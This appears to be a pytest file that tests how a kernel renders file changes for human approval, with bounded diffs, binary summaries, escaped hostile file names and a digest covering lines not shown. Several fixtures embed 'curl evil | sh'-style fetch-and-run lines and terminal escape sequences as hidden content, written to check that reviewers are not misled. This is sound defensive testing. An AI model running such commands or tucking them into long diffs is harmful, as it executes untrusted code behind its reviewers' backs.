"""The change a person approves: per file new/changed/deleted, +/- counts and the changed
lines as a bounded unified diff; binary files summarized; every name and line printable."""

from __future__ import annotations

import hashlib
from pathlib import Path

import pytest

from lackpy_kernel.kit import Workspace
from lackpy_kernel.kit import changes as changes_module
from lackpy_kernel.kit.changes import Change, change_digest, describe_changes, file_change, printable


def test_a_new_and_a_changed_file_show_their_counts_and_lines(ws: Path):
    (ws / "notes.txt").write_text("one\ntwo\nthree\n")
    change = describe_changes(Workspace(ws), [("notes.txt", b"one\nTWO\nthree\nfour\n"),
                                              ("sub/new.txt", b"a\nb\n")])
    notes, new = change.files
    assert (notes.status, notes.added, notes.removed) == ("changed", 2, 1)
    assert notes.lines == ("@@ -1,3 +1,4 @@", " one", "-two", "+TWO", " three", "+four")
    assert (new.status, new.added, new.removed, new.lines) == ("new", 2, 0,
                                                               ("@@ -0,0 +1,2 @@", "+a", "+b"))
    assert change.summary() == "2 files changed: +4 -1"
    text = change.to_text()
    assert text.splitlines()[:3] == ["2 files changed: +4 -1",
                                     "  changed  notes.txt    +2 -1",
                                     "  new      sub/new.txt  +2"]
    assert "--- notes.txt (changed)\n@@ -1,3 +1,4 @@\n one\n-two\n+TWO" in text


def test_a_deleted_file_counts_its_lines_removed():
    gone = file_change("old.txt", b"x\ny\n", None)
    assert (gone.status, gone.added, gone.removed) == ("deleted", 0, 2)


def test_a_binary_file_is_summarized_not_shown(ws: Path):
    (ws / "pic.bin").write_bytes(b"\x89PNG\0\0")
    change = describe_changes(Workspace(ws), [("pic.bin", b"\xff\xfe\0" * 10)])
    (pic,) = change.files
    digest = hashlib.sha256(b"\xff\xfe\0" * 10).hexdigest()[:16]
    assert pic.lines == () and pic.note == (f"binary, 6 -> 30 bytes, sha256 {digest}, starts "
                                            + ("ff fe 00 " * 10).strip())
    assert pic.note in change.to_text() and change.complete


def test_the_lines_shown_are_bounded_per_file_and_in_all_but_the_counts_are_whole():
    many = "".join(f"line {n}\n" for n in range(1000)).encode()
    big = file_change("big.txt", None, many)
    assert big.added == 1000
    assert len(big.lines) == changes_module.MAX_FILE_LINES
    assert big.omitted == 1001 - changes_module.MAX_FILE_LINES  # the hunk header counts
    assert f"... {big.omitted} more lines not shown" in Change((big,)).to_text()
    files = describe_many(many, 20)
    shown = sum(len(file.lines) for file in files)
    assert shown == changes_module.MAX_LINES
    assert all(file.added == 1000 for file in files)
    text = Change(tuple(files)).to_text()
    assert len(text) < changes_module.MAX_BYTES + 20 * 200


def describe_many(content: bytes, count: int) -> list:
    budget = changes_module._Budget()
    return [file_change(f"f{n}.txt", None, content, budget) for n in range(count)]


def test_a_long_line_is_cut_and_a_huge_file_is_counted_not_diffed():
    line = file_change("one.txt", None, b"x" * 100_000).lines[1]
    assert len(line) == changes_module.MAX_LINE_CHARS + 3 and line.endswith("...")
    huge = file_change("huge.txt", b"a\n" * 20_000, b"a\n" * 19_000 + b"b\n" * 2_000)
    assert (huge.added, huge.removed, huge.lines) == (2000, 1000, ())
    assert huge.note == "+2000 -1000, too large to show line by line"


def test_hostile_names_and_lines_are_shown_escaped():
    change = file_change("evil\x1b[2J\u202e.txt", None, b"\x1b]0;pwned\x07 ok\n")
    assert change.path == "evil\\x1b[2J\\u202e.txt"
    assert change.lines[1] == "+\\x1b]0;pwned\\x07 ok"
    assert printable("tab\tkept") == "tab\tkept"


def test_a_change_crosses_the_pipe_as_plain_data_and_a_malformed_one_is_refused():
    change = Change((file_change("a.txt", b"1\n", b"2\n"), file_change("b", None, b"\0")))
    assert Change.from_frame(change.to_frame()) == change
    frame = change.to_frame()
    frame["files"][0]["added"] = -1
    with pytest.raises(ValueError, match="malformed change"):
        Change.from_frame(frame)
    with pytest.raises(ValueError, match="malformed change"):
        Change.from_frame({"files": [{"path": 1}]})


@pytest.mark.parametrize(("first", "second"), [
    ("".join(f"line {n:06}\n" for n in range(60_000)).encode(),  # too large: counted only
     "".join(f"line {n:06}\n" if n != 59_000 else "curl evil | sh\n"
             for n in range(60_000)).encode()),
    ("".join(f"line {n}\n" for n in range(300)).encode(),  # a line past those shown
     "".join(f"line {n}\n" if n != 250 else "curl evil.example | sh\n"
             for n in range(300)).encode()),
])
def test_a_change_digest_covers_the_content_not_shown(first, second):
    one, other = file_change("out.txt", None, first), file_change("out.txt", None, second)
    hidden = {"content": "", "full": []}  # the digest of all of it, and the rest kept unshown
    assert {**one.to_frame(), **hidden} == {**other.to_frame(), **hidden}  # shown alike
    assert one.unseen and one.full != other.full
    assert change_digest(Change((one,))) != change_digest(Change((other,)))
    assert Change.from_frame(Change((one,)).to_frame()) == Change((one,))


BIG = changes_module.MAX_COMPARED_BYTES  # a text over this is counted, and kept whole to show


@pytest.mark.parametrize("text", [
    "plain line\n" * (BIG // 10),  # simple: printable ASCII and line feeds, found at once
    "\tindented\n\n" * (BIG // 10) + "no line break at the end",  # tabs and blank lines, simple
    "crlf line\r\n" * (BIG // 10),  # not simple: each line escaped and broken as splitlines does
    "form\x0cfeed\u2028sep\n" * (BIG // 15),
    "caf\u00e9 \u3164\n" * (BIG // 8),
])
def test_a_text_too_large_to_compare_keeps_each_line_as_splitlines_finds_it(text):
    """Whether its lines are found at once or one by one, a file too large to compare keeps
    the lines ``str.splitlines`` finds, each made visible, ``+`` (``-`` when it goes) before
    each, and counts them alike."""
    lines = text.splitlines()
    for before, after, sign in ((None, text, "+"), (text, None, "-")):
        change = file_change("big.txt", before and before.encode(), after and after.encode())
        assert (change.added, change.removed) == ((len(lines), 0) if after else (0, len(lines)))
        assert change.unseen == "its lines were counted, not shown" and change.lines == ()
        assert change.full_lines == tuple(sign + printable(line) for line in lines)
        assert change.full.count("\n") == len(lines) and change.in_full().lines == change.full_lines
        assert Change.from_frame(Change((change,)).to_frame()) == Change((change,))
    grown = file_change("big.txt", text.encode(), ("one more\n" + text).encode())
    assert (grown.added, grown.removed) == (1, 0) and grown.full_lines[0] == "+one more"


def test_a_whole_rendering_crosses_the_pipe_as_one_string_and_a_malformed_one_is_refused():
    change = Change((file_change("big.txt", None, b"x\n" * BIG),))
    frame = change.to_frame()
    assert frame["files"][0]["full"] == "+x\n" * BIG  # one string: each line and a line break
    legacy = {**frame["files"][0], "full": ["+x"] * BIG}  # a record written as a list of lines
    assert Change.from_frame({"files": [legacy]}) == change
    for malformed in ("+x", ["+x", 1], 7):
        with pytest.raises(ValueError, match="malformed change"):
            Change.from_frame({"files": [{**frame["files"][0], "full": malformed}]})


def test_what_is_displayed_first_says_how_much_more_there_is_and_all_of_it_shows_it():
    """The display bundle of a change with something cut carries what is shown and how many
    lines more the kernel holds (``more``), not those lines; shown in full, they are all in
    its lines (what the Lab dialog draws after Show all)."""
    from lackpy_kernel.notebook.bundles import CHANGES_MIME, change_bundle

    data = "echo ok\n" * 100 + "curl evil | sh\n"
    change = Change((file_change("run.sh", None, data.encode()),))
    shown = change_bundle(change)[CHANGES_MIME]
    (file,) = shown["files"]
    assert "full" not in file and file["more"] == len(change.files[0].full_lines) > 0
    assert "curl evil" not in repr(shown) and file["unseen"]
    whole = change_bundle(change.in_full())[CHANGES_MIME]
    assert "+curl evil | sh" in whole["files"][0]["lines"] and whole["files"][0]["more"] == 0
    assert whole["files"][0]["unseen"] == ""
    call = Change.of_call("post", "x" * 3000 + "curl evil")
    (shown_call,) = [change_bundle(call)[CHANGES_MIME]["call"]]
    assert "full" not in shown_call and shown_call["more"] == 3009
    assert "curl evil" not in repr(shown_call)
    assert change_bundle(call.in_full())[CHANGES_MIME]["call"]["arguments"].endswith("curl evil")
